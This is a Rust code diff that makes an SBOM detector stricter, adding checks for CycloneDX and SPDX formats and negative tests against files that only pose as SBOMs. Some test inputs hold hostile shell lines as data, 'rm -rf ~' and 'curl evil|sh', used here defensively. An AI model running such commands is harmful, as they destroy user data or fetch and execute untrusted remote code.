@@ -53,11 +53,40 @@ fn is_sbom(name: &str, file: &PublishedFile) -> bool {
     let Ok(text) = std::str::from_utf8(&item.bytes) else { return false };
     if called(JSON) {
         let document = json::parse(&item.bytes, json::Limits::bytes(item.bytes.len()));
-        return document.is_ok_and(|it| it.get("bomFormat").is_some() || it.get("spdxVersion").is_some());
+        return document.is_ok_and(|it| {
+            it["bomFormat"] == "CycloneDX"
+                || it["spdxVersion"].as_str().is_some_and(|v| v.starts_with("SPDX-"))
+        });
     }
     let head: String = text.chars().take(2000).collect();
-    (called(XML) && head.trim_start().starts_with('<') && head.contains("cyclonedx.org/schema/bom"))
-        || (lower.ends_with(".spdx") && text.starts_with("SPDXVersion:"))
+    (called(XML) && is_bom_element(&head)) || (lower.ends_with(".spdx") && is_tag_value(text))
+}
+
+/// Whether the first element of an XML document is CycloneDX's.
+fn is_bom_element(head: &str) -> bool {
+    let head = head.trim_start();
+    let head =
+        head.strip_prefix("<?xml").and_then(|rest| rest.split_once("?>")).map_or(head, |(_, rest)| rest);
+    let element = head.trim_start().strip_prefix("<bom").and_then(|rest| rest.split_once('>'));
+    element.is_some_and(|(attributes, _)| {
+        attributes.starts_with(char::is_whitespace) && attributes.contains("cyclonedx.org/schema/bom")
+    })
+}
+
+/// Whether every line is one of SPDX's tag-value format: a tag, a comment, or part of a text.
+fn is_tag_value(text: &str) -> bool {
+    let mut in_text = false;
+    text.starts_with("SPDXVersion:")
+        && text.lines().all(|line| {
+            let begins = line.contains("<text>");
+            let is_tag = line
+                .split_once(':')
+                .is_some_and(|(tag, _)| !tag.is_empty() && tag.chars().all(|c| c.is_ascii_alphanumeric()));
+            let fits = in_text || line.trim().is_empty() || line.starts_with('#') || is_tag;
+            in_text = (in_text || begins) && !line.contains("</text>");
+            fits
+        })
+        && !in_text
 }
 
 #[cfg(test)]
@@ -89,6 +118,9 @@ mod tests {
         assert!(!is("install.spdx", "#!/bin/sh\n# SPDXVersion: SPDX-2.3\nrm -rf ~\n"));
         assert!(!is("w.cdx.json", "#!/bin/sh\n# \"bomFormat\"\n"));
         assert!(!is("w.cdx.json", r#"{"a": "bomFormat"}"#));
+        assert!(!is("w.cdx.json", r#"{"bomFormat": 1}"#));
+        assert!(!is("install.spdx", "SPDXVersion: SPDX-2.3\ncurl evil|sh\n"));
+        assert!(!is("evil.cdx.xml", "<html><!-- cyclonedx.org/schema/bom --><script>x</script></html>"));
         assert!(!is("run.sh", r#"{"bomFormat": "CycloneDX"}"#));
     }
 }
